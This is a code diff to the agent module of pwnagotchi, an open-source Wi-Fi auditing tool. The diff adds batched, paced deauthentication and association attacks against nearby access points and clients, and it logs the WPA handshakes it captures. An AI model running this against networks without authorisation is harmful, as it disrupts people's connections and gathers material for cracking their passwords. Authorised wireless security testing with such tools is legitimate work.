@@ -1,5 +1,6 @@
 import time
 import json
+import collections
 import os
 import re
 import logging
@@ -8,17 +9,36 @@ import asyncio
 import threading
 import subprocess
 
+import requests
+
 import pwnagotchi
 import pwnagotchi.utils as utils
 import pwnagotchi.plugins as plugins
 from pwnagotchi.ui.web.server import Server
 from pwnagotchi.automata import Automata
 from pwnagotchi.log import LastSession
+import pwnagotchi.bettercap as bettercap
+import pwnagotchi.recon as recon
+import pwnagotchi.interactions as interactions
+import pwnagotchi.catalog as catalog
+import pwnagotchi.captures as captures
+import pwnagotchi.ai.scheduler as scheduler
 from pwnagotchi.bettercap import Client
 from pwnagotchi.mesh.utils import AsyncAdvertiser
 
 RECOVERY_DATA_FILE = '/root/.pwnagotchi-recovery'
 
+# how interactions are paced for each wifi firmware (personality.attack_profile):
+#   batch      commands submitted at once, as a single ';' separated request
+#   settle     extra seconds to wait after a batch containing deauths
+#   hop_delay  seconds to wait before moving to the next channel
+ATTACK_PROFILES = {
+    # on-board broadcom chips running nexmon crash when flooded with commands
+    'nexmon': {'batch': 1, 'settle': 1.0, 'hop_delay': 1.0},
+    # usb adapters running mainline drivers cope with bursts just fine
+    'generic': {'batch': 8, 'settle': 0.0, 'hop_delay': 0.0},
+}
+
 
 class Agent(Client, Automata, AsyncAdvertiser):
     def __init__(self, view, config, keypair):
@@ -27,12 +47,17 @@ class Agent(Client, Automata, AsyncAdvertiser):
                         "http" if "scheme" not in config['bettercap'] else config['bettercap']['scheme'],
                         8081 if "port" not in config['bettercap'] else config['bettercap']['port'],
                         "pwnagotchi" if "username" not in config['bettercap'] else config['bettercap']['username'],
-                        "pwnagotchi" if "password" not in config['bettercap'] else config['bettercap']['password'])
+                        "pwnagotchi" if "password" not in config['bettercap'] else config['bettercap']['password'],
+                        timeout=config['bettercap'].get('timeout', bettercap.timeout),
+                        retries=config['bettercap'].get('retries', bettercap.retries),
+                        backoff=config['bettercap'].get('backoff', bettercap.backoff),
+                        pool_size=config['bettercap'].get('pool_size', bettercap.pool_size))
         Automata.__init__(self, config, view)
         AsyncAdvertiser.__init__(self, config, view, keypair)
 
         self._started_at = time.time()
         self._current_channel = 0
+        self._channel_since = None
         self._tot_aps = 0
         self._aps_on_channel = 0
         self._supported_channels = utils.iface_channels(config['main']['iface'])
@@ -41,10 +66,18 @@ class Agent(Client, Automata, AsyncAdvertiser):
         self._web_ui = Server(self, config['ui'])
 
         self._access_points = []
+        reconcile_every = config['bettercap'].get('reconcile_interval', recon.reconcile_interval)
+        if any(tag in recon.TRACKED_EVENTS for tag in config['bettercap']['silence']):
+            # the events can't keep the table current, every read polls the session
+            reconcile_every = 0
+        self._ap_table = recon.AccessPointTable(reconcile_every)
         self._last_pwnd = None
-        self._history = {}
-        self._handshakes = {}
+        self._history = interactions.InteractionHistory(
+            config['personality'].get('max_history', interactions.max_history),
+            config['personality'].get('history_half_life', interactions.history_half_life))
+        self._handshakes = interactions.HandshakeIndex()
         self.last_session = LastSession(self._config)
+        self._scheduler = scheduler.load(config)
         self.mode = 'auto'
 
         if not os.path.exists(config['bettercap']['handshakes']):
@@ -67,6 +100,8 @@ class Agent(Client, Automata, AsyncAdvertiser):
         logging.info("connecting to %s ...", self.url)
 
         for tag in self._config['bettercap']['silence']:
+            if tag in recon.TRACKED_EVENTS:
+                logging.info("%s events are silenced, the access points table will rely on polling", tag)
             try:
                 self.run('events.ignore %s' % tag, verbose_errors=False)
             except Exception:
@@ -88,8 +123,7 @@ class Agent(Client, Automata, AsyncAdvertiser):
         has_mon = False
 
         while has_mon is False:
-            s = self.session()
-            for iface in s['interfaces']:
+            for iface in self.session_part('interfaces', max_age=0):
                 if iface['name'] == mon_iface:
                     logging.info("found monitor interface: %s", iface['name'])
                     has_mon = True
@@ -98,7 +132,11 @@ class Agent(Client, Automata, AsyncAdvertiser):
             if has_mon is False:
                 if mon_start_cmd is not None and mon_start_cmd != '':
                     logging.info("starting monitor interface ...")
-                    self.run('!%s' % mon_start_cmd)
+                    try:
+                        self.run('!%s' % mon_start_cmd)
+                    except requests.exceptions.Timeout:
+                        # it may still be coming up, the interfaces tell
+                        logging.warning("timed out starting monitor interface, checking again ...")
                 else:
                     logging.info("waiting for monitor interface %s ...", mon_iface)
                     time.sleep(1)
@@ -113,6 +151,7 @@ class Agent(Client, Automata, AsyncAdvertiser):
             logging.debug("restarting wifi module ...")
             self.restart_module('wifi.recon')
             self.run('wifi.clear')
+            self._ap_table.invalidate()
         elif not wifi_running:
             logging.debug("starting wifi module ...")
             self.start_module('wifi.recon')
@@ -149,6 +188,7 @@ class Agent(Client, Automata, AsyncAdvertiser):
             recon_time *= recon_mul
 
         self._view.set('channel', '*')
+        self._leave_channel()
 
         if not channels:
             self._current_channel = 0
@@ -163,25 +203,51 @@ class Agent(Client, Automata, AsyncAdvertiser):
 
         self.wait_for(recon_time, sleeping=False)
 
+    def _leave_channel(self):
+        # account the time spent on the current channel to its stats
+        if self._current_channel and self._channel_since is not None:
+            self._epoch.track_channel(self._current_channel, dwell=time.monotonic() - self._channel_since)
+        self._channel_since = None
+
+    def next_epoch(self):
+        if self._channel_since is not None:
+            # split the dwell of the current channel across epochs
+            self._leave_channel()
+            self._channel_since = time.monotonic()
+        self._scheduler.update(self._epoch.channel_stats)
+        Automata.next_epoch(self)
+
     def set_access_points(self, aps):
         self._access_points = aps
         plugins.on('wifi_update', self, aps)
         self._epoch.observe(aps, list(self._peers.values()))
         return self._access_points
 
-    def get_access_points(self):
+    def _filter_access_points(self, unfiltered):
         whitelist = self._config['main']['whitelist']
+        aps = []
+        for ap in unfiltered:
+            if ap['encryption'] == '' or ap['encryption'] == 'OPEN':
+                continue
+            elif ap['hostname'] in whitelist or ap['mac'][:13].lower() in whitelist or ap['mac'].lower() in whitelist:
+                continue
+            else:
+                aps.append(ap)
+        return aps
+
+    def _sync_access_points(self):
+        # the table is kept current by the websocket events, the full session
+        # is only fetched once in a while to fix any drift
+        if self._ap_table.needs_sync():
+            self._ap_table.sync(self.session_part('wifi')['aps'])
+
+    def get_access_points(self):
         aps = []
         try:
-            s = self.session()
-            plugins.on("unfiltered_ap_list", self, s['wifi']['aps'])
-            for ap in s['wifi']['aps']:
-                if ap['encryption'] == '' or ap['encryption'] == 'OPEN':
-                    continue
-                elif ap['hostname'] in whitelist or ap['mac'][:13].lower() in whitelist or ap['mac'].lower() in whitelist:
-                    continue
-                else:
-                    aps.append(ap)
+            self._sync_access_points()
+            unfiltered = self._ap_table.access_points()
+            plugins.on("unfiltered_ap_list", self, unfiltered)
+            aps = self._filter_access_points(unfiltered)
         except Exception as e:
             logging.exception("Error while getting access points (%s)", e)
 
@@ -215,17 +281,11 @@ class Agent(Client, Automata, AsyncAdvertiser):
             else:
                 grouped[ch].append(ap)
 
-        # sort by more populated channels
-        return sorted(grouped.items(), key=lambda kv: len(kv[1]), reverse=True)
+        # the scheduler decides which channels come first
+        return self._scheduler.order(grouped)
 
-    def _find_ap_sta_in(self, station_mac, ap_mac, session):
-        for ap in session['wifi']['aps']:
-            if ap['mac'] == ap_mac:
-                for sta in ap['clients']:
-                    if sta['mac'] == station_mac:
-                        return ap, sta
-                return ap, {'mac': station_mac, 'vendor': ''}
-        return None
+    def _find_ap_sta_in(self, station_mac, ap_mac):
+        return self._ap_table.find(station_mac, ap_mac)
 
     def _update_uptime(self, s):
         secs = pwnagotchi.uptime()
@@ -233,15 +293,16 @@ class Agent(Client, Automata, AsyncAdvertiser):
         # self._view.set('epoch', '%04d' % self._epoch.epoch)
 
     def _update_counters(self):
-        self._tot_aps = len(self._access_points)
-        tot_stas = sum(len(ap['clients']) for ap in self._access_points)
+        access_points = self._filter_access_points(self._ap_table.access_points())
+        self._tot_aps = len(access_points)
+        tot_stas = sum(len(ap['clients']) for ap in access_points)
         if self._current_channel == 0:
             self._view.set('aps', '%d' % self._tot_aps)
             self._view.set('sta', '%d' % tot_stas)
         else:
-            self._aps_on_channel = len([ap for ap in self._access_points if ap['channel'] == self._current_channel])
+            self._aps_on_channel = len([ap for ap in access_points if ap['channel'] == self._current_channel])
             stas_on_channel = sum(
-                [len(ap['clients']) for ap in self._access_points if ap['channel'] == self._current_channel])
+                [len(ap['clients']) for ap in access_points if ap['channel'] == self._current_channel])
             self._view.set('aps', '%d (%d)' % (self._aps_on_channel, self._tot_aps))
             self._view.set('sta', '%d (%d)' % (stas_on_channel, tot_stas))
 
@@ -278,8 +339,8 @@ class Agent(Client, Automata, AsyncAdvertiser):
             data = {
                 'started_at': self._started_at,
                 'epoch': self._epoch.epoch,
-                'history': self._history,
-                'handshakes': self._handshakes,
+                'history': self._history.dump(),
+                'handshakes': self._handshakes.dump(),
                 'last_pwnd': self._last_pwnd
             }
             json.dump(data, fp)
@@ -288,11 +349,12 @@ class Agent(Client, Automata, AsyncAdvertiser):
         try:
             with open(RECOVERY_DATA_FILE, 'rt') as fp:
                 data = json.load(fp)
-                logging.info("found recovery data: %s", data)
+                logging.info("found recovery data: epoch %d, %d handshakes, %d interactions",
+                             data['epoch'], len(data['handshakes']), len(data['history']))
                 self._started_at = data['started_at']
                 self._epoch.epoch = data['epoch']
-                self._handshakes = data['handshakes']
-                self._history = data['history']
+                self._handshakes.load(data['handshakes'])
+                self._history.load(data['history'])
                 self._last_pwnd = data['last_pwnd']
 
                 if delete:
@@ -308,10 +370,8 @@ class Agent(Client, Automata, AsyncAdvertiser):
 
     def _fetch_stats(self):
         while True:
-            try:
-                s = self.session()
-            except Exception as err:
-                logging.error("[agent:_fetch_stats] self.session: %s" % repr(err))
+            # everything below is served from memory, no need to fetch the session here
+            s = None
 
             try:
                 self._update_uptime(s)
@@ -338,9 +398,11 @@ class Agent(Client, Automata, AsyncAdvertiser):
 
             time.sleep(5)
 
-    async def _on_event(self, msg):
+    # runs on the event dispatcher worker thread, see bettercap.EventDispatcher
+    def _on_event(self, jmsg):
         found_handshake = False
-        jmsg = json.loads(msg)
+
+        self._ap_table.on_event(jmsg)
 
         # give plugins access to the events
         try:
@@ -353,25 +415,45 @@ class Agent(Client, Automata, AsyncAdvertiser):
             sta_mac = jmsg['data']['station']
             ap_mac = jmsg['data']['ap']
             key = "%s -> %s" % (sta_mac, ap_mac)
-            if key not in self._handshakes:
-                self._handshakes[key] = jmsg
-                s = self.session()
-                ap_and_station = self._find_ap_sta_in(sta_mac, ap_mac, s)
+            catalog.get(self._config['bettercap']['handshakes']).add(filename)
+            if self._handshakes.add(sta_mac, ap_mac):
+                ap_and_station = self._find_ap_sta_in(sta_mac, ap_mac)
                 if ap_and_station is None:
+                    self._epoch.track_channel(self._current_channel, handshakes=1)
                     logging.warning("!!! captured new handshake: %s !!!", key)
                     self._last_pwnd = ap_mac
+                    self._record_capture(filename, ap_mac, sta_mac)
                     plugins.on('handshake', self, filename, ap_mac, sta_mac)
                 else:
                     (ap, sta) = ap_and_station
+                    self._epoch.track_channel(ap['channel'], handshakes=1)
                     self._last_pwnd = ap['hostname'] if ap['hostname'] != '' and ap[
                         'hostname'] != '<hidden>' else ap_mac
                     logging.warning(
                         "!!! captured new handshake on channel %d, %d dBm: %s (%s) -> %s [%s (%s)] !!!",
                         ap['channel'], ap['rssi'], sta['mac'], sta['vendor'], ap['hostname'], ap['mac'], ap['vendor'])
+                    self._record_capture(filename, ap_mac, sta_mac, ap)
                     plugins.on('handshake', self, filename, ap, sta)
                 found_handshake = True
             self._update_handshakes(1 if found_handshake else 0)
 
+        elif jmsg['tag'] == 'wifi.client.new':
+            self._epoch.track_channel(jmsg['data']['AP']['channel'], new_stations=1)
+
+    def _record_capture(self, filename, ap_mac, sta_mac, ap=None):
+        fields = {'bssid': ap_mac, 'station': sta_mac, 'captured_at': time.time()}
+        if ap is not None:
+            fields['channel'] = ap['channel']
+            fields['encryption'] = ap.get('encryption')
+            fields['frequency'] = ap.get('frequency')
+            fields['rssi'] = ap.get('rssi')
+            if ap['hostname'] not in ('', '<hidden>'):
+                fields['essid'] = ap['hostname']
+        try:
+            captures.get(self._config).add(filename, **fields)
+        except Exception as e:
+            logging.error("error while saving capture %s: %s", filename, e)
+
     def _event_poller(self, loop):
         self._load_recovery_data()
         self.run('events.clear')
@@ -379,48 +461,46 @@ class Agent(Client, Automata, AsyncAdvertiser):
         while True:
             logging.debug("[agent:_event_poller] polling events ...")
             try:
-                loop.create_task(self.start_websocket(self._on_event))
+                loop.create_task(self.start_websocket(self._on_event, on_drop=self._on_event_dropped))
                 loop.run_forever()
                 logging.debug("[agent:_event_poller] loop loop loop")
             except Exception as ex:
                 logging.debug("[agent:_event_poller] Error while polling via websocket (%s)", ex)
 
+    def _on_event_dropped(self, tag):
+        # we missed an update, let the next access points read reconcile
+        if tag in recon.TRACKED_EVENTS:
+            self._ap_table.invalidate()
+
     def start_event_polling(self):
         # start a thread and pass in the mainloop
         #_thread.start_new_thread(self._event_poller, (asyncio.get_event_loop(),))
         threading.Thread(target=self._event_poller, args=(asyncio.get_event_loop(),), name="Event Polling", daemon=True).start()
 
     def is_module_running(self, module):
-        s = self.session()
-        for m in s['modules']:
+        for m in self.session_part('modules'):
             if m['name'] == module:
                 return m['running']
         return False
 
     def start_module(self, module):
         self.run('%s on' % module)
+        self._session_cache.invalidate('modules')
 
     def restart_module(self, module):
         self.run('%s off; %s on' % (module, module))
+        self._session_cache.invalidate('modules')
 
     def _has_handshake(self, bssid):
-        for key in self._handshakes:
-            if bssid.lower() in key:
-                return True
-        return False
+        return bssid in self._handshakes
 
     def _should_interact(self, who):
         if self._has_handshake(who):
             return False
 
-        elif who not in self._history:
-            self._history[who] = 1
-            return True
-
-        else:
-            self._history[who] += 1
-
-        return self._history[who] < self._config['personality']['max_interactions']
+        # the first interaction with somebody is always allowed
+        count = self._history.hit(who)
+        return count == 1 or count < self._config['personality']['max_interactions']
 
     def associate(self, ap, throttle=-1):
         if self.is_stale():
@@ -470,6 +550,124 @@ class Agent(Client, Automata, AsyncAdvertiser):
                 time.sleep(throttle)
             self._view.on_normal()
 
+    def attack_profile(self):
+        name = self._config['personality'].get('attack_profile', 'nexmon')
+        if name not in ATTACK_PROFILES:
+            logging.warning("unknown attack profile '%s', using nexmon", name)
+            name = 'nexmon'
+        return ATTACK_PROFILES[name]
+
+    def _attack_targets(self, aps):
+        # same order the main loop always used: the ap first, then its clients
+        targets = collections.deque()
+        for ap in aps:
+            if self._config['personality']['associate']:
+                targets.append(('assoc', ap, None))
+            if self._config['personality']['deauth']:
+                for sta in ap['clients']:
+                    targets.append(('deauth', ap, sta))
+        return targets
+
+    @staticmethod
+    def _attack_command(target):
+        kind, ap, sta = target
+        return 'wifi.assoc %s' % ap['mac'] if kind == 'assoc' else 'wifi.deauth %s' % sta['mac']
+
+    @staticmethod
+    def _target_mac(target):
+        kind, ap, sta = target
+        return ap['mac'] if kind == 'assoc' else sta['mac']
+
+    def _run_batch(self, batch):
+        """
+        Runs a batch of interactions as a single request, returns the targets bettercap
+        did not get to because an earlier command of the batch failed.
+        """
+        try:
+            self.run('; '.join(self._attack_command(t) for t in batch))
+            done, failed, rest = batch, None, []
+        except requests.exceptions.Timeout:
+            # bettercap may have run any part of it, none of it is sent again
+            logging.warning("timed out running %d interactions, their outcome is unknown", len(batch))
+            return []
+        except Exception as e:
+            # bettercap stops at the first failing command, find out which one it was
+            err = str(e).lower()
+            idx = next((i for i, t in enumerate(batch) if self._target_mac(t).lower() in err), None)
+            if idx is None:
+                if len(batch) == 1:
+                    self._on_error(self._target_mac(batch[0]), e)
+                    return []
+                # can't tell, go one by one
+                for target in batch:
+                    self._run_batch([target])
+                return []
+            done, failed, rest = batch[:idx], batch[idx], batch[idx + 1:]
+            self._on_error(self._target_mac(failed), e)
+
+        for kind, ap, sta in done:
+            if kind == 'assoc':
+                self._epoch.track(assoc=True)
+            else:
+                self._epoch.track(deauth=True)
+        return rest
+
+    def attack(self, aps):
+        """
+        Associates with and deauths every target of a channel, submitting the commands
+        in batches paced by the attack profile of the wifi firmware.
+        """
+        profile = self.attack_profile()
+        throttle_a = self._config['personality'].get('throttle_a', 0)
+        throttle_d = self._config['personality'].get('throttle_d', 0)
+        targets = self._attack_targets(aps)
+        skipped = []
+
+        while targets or skipped:
+            if self.is_stale():
+                logging.debug("recon is stale, skipping %d interactions", len(targets) + len(skipped))
+                return
+
+            batch, skipped = skipped[:profile['batch']], skipped[profile['batch']:]
+            while targets and len(batch) < profile['batch']:
+                target = targets.popleft()
+                if self._should_interact(self._target_mac(target)):
+                    batch.append(target)
+            if not batch:
+                break
+
+            for kind, ap, sta in batch:
+                if kind == 'assoc':
+                    self._view.on_assoc(ap)
+                    logging.info("sending association frame to %s (%s %s) on channel %d [%d clients], %d dBm...",
+                                 ap['hostname'], ap['mac'], ap['vendor'], ap['channel'], len(ap['clients']), ap['rssi'])
+                else:
+                    self._view.on_deauth(sta)
+                    logging.info("deauthing %s (%s) from %s (%s %s) on channel %d, %d dBm ...",
+                                 sta['mac'], sta['vendor'], ap['hostname'], ap['mac'], ap['vendor'], ap['channel'],
+                                 ap['rssi'])
+
+            # whatever bettercap did not get to goes back at the front of the line
+            rest = self._run_batch(batch)
+            skipped = rest + skipped
+            batch = batch[:len(batch) - len(rest)]
+
+            for kind, ap, sta in batch:
+                if kind == 'assoc':
+                    plugins.on('association', self, ap)
+                else:
+                    plugins.on('deauthentication', self, ap, sta)
+
+            # throttle once per batch rather than once per command
+            pause = 0
+            if any(kind == 'assoc' for kind, _, _ in batch):
+                pause = max(pause, throttle_a)
+            if any(kind == 'deauth' for kind, _, _ in batch):
+                pause = max(pause, throttle_d) + profile['settle']
+            if pause > 0:
+                time.sleep(pause)
+            self._view.on_normal()
+
     def set_channel(self, channel, verbose=True):
         if self.is_stale():
             logging.debug("recon is stale, skipping set_channel(%d)", channel)
@@ -486,17 +684,20 @@ class Agent(Client, Automata, AsyncAdvertiser):
             wait = self._config['personality']['min_recon_time']
 
         if channel != self._current_channel:
+            wait = self._scheduler.dwell(self._current_channel, wait)
             if self._current_channel != 0 and wait > 0:
                 if verbose:
                     logging.info("waiting for %ds on channel %d ...", wait, self._current_channel)
                 else:
                     logging.debug("waiting for %ds on channel %d ...", wait, self._current_channel)
                 self.wait_for(wait)
+            self._leave_channel()
             if verbose and self._epoch.any_activity:
                 logging.info("CHANNEL %d", channel)
             try:
                 self.run('wifi.recon.channel %d' % channel)
                 self._current_channel = channel
+                self._channel_since = time.monotonic()
                 self._epoch.track(hop=True)
                 self._view.set('channel', '%d' % channel)
 